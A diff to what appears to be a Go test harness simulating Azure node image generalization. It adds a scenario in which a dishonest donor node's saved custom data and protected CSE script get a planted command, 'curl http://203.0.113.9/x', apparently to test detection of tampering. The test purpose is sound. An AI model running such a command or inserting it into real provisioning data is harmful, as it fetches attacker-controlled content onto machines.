@@ -207,6 +207,9 @@ func (w *world) log(_, pod string) []byte {
 	return w.logs[pod]
 }
 
+// donorsCommand is what root on the second instance put where its node keeps what Azure gave it.
+const donorsCommand = "curl http://203.0.113.9/x"
+
 type toSave struct {
 	kind       wire.SealedKind
 	name, text string
@@ -214,7 +217,11 @@ type toSave struct {
 
 // saved returns what is on the disk, and reports the handlers without protected settings.
 func (w *world) saved(report *wire.GeneralizeReport) []toSave {
-	all := []toSave{{wire.CustomData, "", firstCustomData}}
+	custom, script := firstCustomData, `{"script":"secret"}`
+	if w.story.Pool.Liar && report.Donor == w.nodeName(1) {
+		custom, script = custom+donorsCommand, `{"script":"`+donorsCommand+`"}`
+	}
+	all := []toSave{{wire.CustomData, "", custom}}
 	if w.story.Pool.Disk == "unread" {
 		all, report.Unsaved = nil, []string{"customData: ovf-env.xml is no XML"}
 	}
@@ -224,7 +231,7 @@ func (w *world) saved(report *wire.GeneralizeReport) []toSave {
 		case e != "cse" || w.story.Pool.Settings == "":
 			report.NoProtected = append(report.NoProtected, handler)
 		case w.story.Pool.Settings == "sealed":
-			all = append(all, toSave{wire.ProtectedSettings, handler, `{"script":"secret"}`})
+			all = append(all, toSave{wire.ProtectedSettings, handler, script})
 		}
 	}
 	return all
